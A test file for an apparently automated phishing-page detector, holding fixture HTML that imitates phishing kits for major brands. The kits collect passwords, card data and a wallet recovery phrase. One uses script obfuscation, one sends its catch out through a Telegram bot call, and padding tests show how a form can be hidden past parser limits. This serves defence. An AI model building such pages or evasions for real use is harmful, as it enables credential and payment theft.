import { describe, expect, test } from 'bun:test';
import { FEATURE_NAMES } from '#src/engine/analyzers/index.ts';
import { analyzePage, pageAnalyzer } from '#src/engine/analyzers/page.ts';
import { fuse } from '#src/engine/fusion/fuse.ts';
import { loadFusionModel } from '#src/engine/fusion/model.ts';
import fusionJson from '#src/engine/models/fusion.json' with { type: 'json' };
import { knowledge } from '#test/support/knowledge.ts';
import { subjectOf } from './features-of.ts';

const model = loadFusionModel(fusionJson, FEATURE_NAMES);

/** Returns the probability by the page alone, at the base rate of 5 %. */
function probabilityOf(html: string, url?: string): number {
  const subject = subjectOf(html, url);
  const page = analyzePage({ ...subject, knowledge }, []);
  const evidence = pageAnalyzer.analyze({ page, observations: subject.observations });
  return fuse(new Map([['page', evidence]]), model, 0.05).probability;
}

const HOST = 'https://neutral-host.test/kit/';

/** Pages in the manner of kits and attack tools. */
const KITS: readonly (readonly [string, string])[] = [
  [
    'a copy of a social network’s login, made by a tool',
    `<!doctype html><html><head><title>Facebook – log in or sign up</title><link rel="shortcut icon" href="index_files/fb.ico"></head>
     <body><form action="login.php" method="post"><input name="email" placeholder="Email address or phone number">
     <input type="password" name="pass" placeholder="Password"><button>Log In</button></form>
     <a href="https://www.facebook.com/recover/initiate">Forgotten password?</a><a href="https://www.facebook.com/r.php">Create new account</a>
     <a href="https://www.facebook.com/policies">Terms</a><p>Meta © 2024</body>`,
  ],
  [
    'a streaming service that wants a card',
    `<title>Netflix</title><img src="img/logo.svg" alt="Netflix"><h1>Update your payment</h1><p>Your account is on hold.</p>
     <form method="post" action="card.php"><input name="cardnumber" placeholder="Card number"><input name="exp"><input name="cvv" placeholder="CVV"><button>Continue</button></form>`,
  ],
  [
    'a mail login in the second step, the address filled in',
    `<title>Sign in to your account</title><img src="images/microsoft_logo.svg"><div>someone@victim.test</div>
     <form method="post" action="next.php"><input type="hidden" name="user" value="someone@victim.test"><input type="password" name="passwd" placeholder="Password">
     <a href="#">Forgot my password</a><a href="#">Sign in with another account</a><input type="submit" value="Sign in"></form><div>©2024 Microsoft</div>`,
  ],
  [
    'a page spelt out by script',
    `<html><body><script>document.write(unescape("${escape(
      '<title>PayPal: Log in</title><form action="https://neutral-host.test/kit/post.php" method="post"><input type="email" name="login_email"><input type="password" name="login_password"></form>',
    )}"))</script></body></html>`,
  ],
  [
    'a nameless mailbox',
    `<title>Webmail Login</title><form method="post" action="process.php"><input name="email"><input type="password" name="password"><button>Sign in to continue</button></form>
     <p>Your mailbox is full. Verify your account within 24 hours. <a href="#">Help</a> <a href="#">Privacy</a></p>`,
  ],
  [
    'a wallet',
    `<title>MetaMask</title><h1>Restore your wallet</h1><form><textarea name="phrase" placeholder="Secret recovery phrase"></textarea><button>Import</button></form>`,
  ],
  [
    'a bank saved with a browser',
    `<!-- saved from url=(0035)https://secure.chase.com/web/auth/x --><title>Sign in - chase.com</title>
     <link rel="icon" href="Sign in_files/favicon.ico"><form action="log.php" method="post"><input name="userId"><input type="password" name="password"></form>
     <p>© 2024 JPMorgan Chase &amp; Co.</p>`,
  ],
  [
    'a parcel that sends its catch to a chat',
    `<title>DHL | Tracking</title><h1>Pay the customs fee</h1><form id="f"><input name="cc" placeholder="Card number"><input name="cvv"><button>Pay</button></form>
     <script>fetch("https://api.telegram.org/bot123:AAF/sendMessage?chat_id=1", { method: "POST" })</script>`,
  ],
];

const HARMLESS: readonly (readonly [string, string, string])[] = [
  [
    'a club’s login made by hand',
    'http://www.turnverein-muster.test/intern/',
    '<title>Login</title><form method=post action=login.php><input name=user><input type=password name=pass><input type=submit value=Login></form>',
  ],
  [
    'a cloud on a host of one’s own',
    'https://cloud.muster.test/',
    '<title>Nextcloud</title><form method=post action=/login><input name=user><input type=password name=password><button>Log in</button></form><a href=/reset>Forgot?</a>',
  ],
  [
    'the login of a company at its service provider',
    'https://muster.sso-provider.test/login',
    '<title>Sign in</title><form method=post action=/session><input type=email name=e><input type=password name=p><button>Sign in</button></form>',
  ],
  [
    'an application that asks for nothing before its script runs',
    'https://app.muster.test/',
    '<title>App</title><div id=root></div><noscript>Please enable JavaScript</noscript><script src=/main.js></script>',
  ],
  [
    'the brand itself',
    'https://www.paypal.com/signin',
    '<title>Log in to your PayPal account</title><form method=post action=/signin><input type=email name=e><input type=password name=p><button>Log In</button></form><a href=#>Help</a><a href=#>Terms</a><p>© 2026 PayPal',
  ],
];

describe('with its weights, a page alone', () => {
  test.each(KITS)('warns about %s', (_, html) => {
    expect(probabilityOf(html, HOST)).toBeGreaterThan(model.thresholds.warn);
  });

  test.each(HARMLESS)('allows %s', (_, url, html) => {
    expect(probabilityOf(html, url)).toBeLessThan(model.thresholds.warn);
  });
});

test('no signal causes a block on its own', () => {
  for (const name of pageAnalyzer.features) {
    const features = [{ name, value: 1, args: {} }];
    const { probability } = fuse(new Map([['page', { features, terms: [] }]]), model, 0.05);
    expect(probability).toBeLessThan(model.thresholds.block);
  }
});

describe('a page that asks for no input within the limits of the parser', () => {
  const LOGIN = '<form method=post action=next.php><input name=user><input type=password name=pass></form>';

  test.each([
    ['a comment', `<!--${'pad '.repeat(600_000)}-->`],
    ['text to read', `<p>${'word '.repeat(480_000)}`],
    ['white space', ' '.repeat(2_400_000)],
  ])('gets a warning for the unread rest, whatever its padding: %s', (_, padding) => {
    expect(probabilityOf(`<title>Account</title>${padding}${LOGIN}`, HOST)).toBeGreaterThan(model.thresholds.warn);
  });
});
